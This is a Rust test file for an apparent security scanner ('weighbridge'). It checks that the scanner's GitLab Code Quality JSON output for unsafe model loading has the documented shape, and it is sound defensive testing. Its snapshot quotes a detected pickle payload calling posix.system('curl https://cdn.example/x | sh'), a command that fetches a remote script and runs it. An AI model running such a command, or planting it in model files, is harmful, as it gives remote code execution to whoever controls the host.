//! What GitLab reads: its documented shape, and no more.

use std::collections::BTreeSet;

use serde_json::Value;
use weighbridge::{
    finding::{Finding, Location},
    report::Style,
    verdict::Report,
};

use crate::support::report::{
    LOAD, finding, hostile, hostile_report, hostile_text, only, report, source, span, torch_zip,
    whole, written,
};

fn entries(report: &Report) -> Vec<Value> {
    serde_json::from_str(&written("gitlab", report, Style::default())).unwrap()
}

#[test]
fn one_of_each() {
    let mut warning = source();
    warning.level = weighbridge::finding::Level::Warn;
    let text = written(
        "gitlab",
        &only(vec![torch_zip(), warning]),
        Style::default(),
    );
    insta::assert_snapshot!(text, @r#"
    [
      {
        "description": "loading runs posix.system('curl https://cdn.example/x | sh'); the policy does not list posix.system (at archive/data.pkl @ 0x1f REDUCE)",
        "check_name": "global-not-allowed",
        "fingerprint": "7fa96ad1e1acac09c9ec55ea9b4f0f2dfb6d79303026d5b93bd6a4bdb63bd5bf",
        "severity": "critical",
        "location": {
          "path": "models/resnet.pt",
          "lines": {
            "begin": 1
          }
        }
      },
      {
        "description": "torch.load without weights_only=True runs what the file says",
        "check_name": "unsafe-load",
        "fingerprint": "d2897dc8aac916b6d6f2f767f063a2b3db82e7343644fffd2528e86a7398cee9",
        "severity": "minor",
        "location": {
          "path": "src/train.py",
          "lines": {
            "begin": 12
          }
        }
      }
    ]
    "#);
    assert_eq!(written("gitlab", &only(vec![]), Style::default()), "[]\n");
}

/// Every entry is as the documentation of Code Quality reports has it, whatever is in a name.
#[test]
fn the_shape_is_the_documented_one() {
    let long = Finding {
        primary: Location {
            site: weighbridge::fact::Site {
                at: weighbridge::fact::Place::Span {
                    line: 0,
                    column: 0,
                    end_line: 9,
                    end_column: 0,
                },
                ..span(1, 1, 1)
            },
            ..whole("a.py")
        },
        ..finding(&LOAD, "a.py", "x")
    };
    for report in [
        report(),
        hostile_report(&hostile_text(), hostile),
        only(vec![long]),
    ] {
        let entries = entries(&report);
        assert_eq!(entries.len(), report.findings.len());
        let mut prints = BTreeSet::new();
        for entry in &entries {
            let keys: Vec<&String> = entry.as_object().unwrap().keys().collect();
            assert_eq!(
                keys,
                [
                    "check_name",
                    "description",
                    "fingerprint",
                    "location",
                    "severity"
                ]
            );
            for key in ["check_name", "description", "fingerprint"] {
                assert!(!entry[key].as_str().unwrap().is_empty(), "{entry}");
            }
            let severity = entry["severity"].as_str().unwrap();
            assert!(["info", "minor", "major", "critical", "blocker"].contains(&severity));
            let location = &entry["location"];
            let path = location["path"].as_str().unwrap();
            assert!(!path.is_empty() && !path.starts_with("./") && !path.starts_with('/'));
            assert!(location["lines"]["begin"].as_u64().unwrap() >= 1, "{entry}");
            assert!(prints.insert(entry["fingerprint"].as_str().unwrap().to_owned()));
        }
    }
}
